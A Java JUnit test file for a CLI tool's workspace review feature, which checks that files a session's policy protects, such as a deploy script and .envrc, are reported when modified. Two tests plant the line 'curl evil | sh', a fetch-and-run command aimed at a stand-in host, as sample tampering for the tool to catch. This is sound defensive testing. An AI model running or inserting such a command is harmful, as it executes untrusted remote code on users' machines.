package dev.scc.cli.commands.runtime;

import static org.assertj.core.api.Assertions.assertThat;

import dev.scc.cli.CliServices;
import dev.scc.cli.Main;
import dev.scc.core.runtime.WorkspaceProtection;
import dev.scc.core.runtime.WorkspaceProtection.Mode;
import java.io.PrintWriter;
import java.io.StringWriter;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Clock;
import java.util.Map;
import java.util.stream.Stream;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * A review covers the paths the session's policy chose (an org's, team's or project's {@code review} paths), as the
 * launch recorded them on the host, not only SCC's default set; a record that cannot be read is an error naming it.
 */
class ReviewedProtectionTest {
    @TempDir
    Path tmp;
    Path ws;
    Map<String, String> env;
    CliServices services;
    StringWriter out;
    StringWriter err;

    @BeforeEach
    void setUp() throws Exception {
        ws = Files.createDirectories(tmp.resolve("project"));
        Files.createDirectories(ws.resolve("scripts"));
        Files.writeString(ws.resolve("scripts/deploy.sh"), "echo deploy\n");
        env = Map.of("HOME", tmp.resolve("home").toString(), "XDG_STATE_HOME", tmp.resolve("state").toString());
        services = new CliServices(env, tmp.resolve("home"), Clock.systemUTC(), ws, false);
        assertThat(scc("checkpoint", "--reason", "launch")).as(err.toString()).isZero();
    }

    private int scc(String... args) {
        out = new StringWriter();
        err = new StringWriter();
        return Main.run(new PrintWriter(out, true), new PrintWriter(err, true), services, args);
    }

    private void record(Map<String, Mode> chosen) {
        StringWriter warnings = new StringWriter();
        WorkspaceReview.recordProtection(env, ws.toAbsolutePath(), WorkspaceProtection.DEFAULT.with(chosen, true),
                new PrintWriter(warnings, true));
        assertThat(warnings.toString()).isEmpty();
    }

    @Test
    void aPathThePolicyPutUnderReviewIsReviewedAfterTheSession() throws Exception {
        Files.writeString(ws.resolve("scripts/deploy.sh"), "curl evil | sh\n");
        assertThat(scc("review")).as("without the session's record only SCC's default set is reviewed").isZero();
        assertThat(out.toString()).contains("no changes");

        record(Map.of("scripts", Mode.REVIEW));
        assertThat(scc("review")).isEqualTo(6);
        assertThat(out.toString()).contains("modified scripts/deploy.sh", "+curl evil | sh");
        assertThat(scc("review", "--discard")).as(err.toString()).isZero();
        assertThat(ws.resolve("scripts/deploy.sh")).hasContent("echo deploy");
    }

    @Test
    void theRecordNeverShrinksTheDefaultSet() throws Exception {
        record(Map.of(".envrc", Mode.OFF));
        Files.writeString(ws.resolve(".envrc"), "curl evil | sh\n");
        assertThat(scc("review")).isEqualTo(6);
        assertThat(out.toString()).contains("added .envrc");
    }

    @Test
    void aRecordThatCannotBeReadIsAClearErrorNotAShorterReview() throws Exception {
        Path f = WorkspaceReview.protectionFile(env, ws.toAbsolutePath());
        Files.createDirectories(f.getParent());
        for (String bad : new String[] {"{not json", "{\"protection\": {\"../x\": \"review\"}}",
                "{\"protection\": {\"x\": \"writable\"}}", "[]"}) {
            Files.writeString(f, bad);
            assertThat(scc("review")).as(bad).isNotZero();
            assertThat(err.toString()).as(bad).contains(f.toString(), "cannot read the session's workspace protection");
        }
    }

    @Test
    void aRecordThatCannotBeWrittenIsAWarningAndLeavesNothingHalfWritten() throws Exception {
        Path f = WorkspaceReview.protectionFile(env, ws.toAbsolutePath());
        Files.createDirectories(f.getParent().getParent());
        Files.writeString(f.getParent(), "a file where the directory should be");
        StringWriter warnings = new StringWriter();
        WorkspaceReview.recordProtection(env, ws.toAbsolutePath(), WorkspaceProtection.DEFAULT,
                new PrintWriter(warnings, true));
        assertThat(warnings.toString()).contains("warning: cannot record the session's workspace protection",
                "SCC's default set");
        Files.delete(f.getParent());
        Files.createDirectories(f.getParent());
        record(Map.of("scripts", Mode.REVIEW));
        try (Stream<Path> left = Files.list(f.getParent())) {
            assertThat(left).as("only the record, no temporary file").containsExactly(f);
        }
    }
}
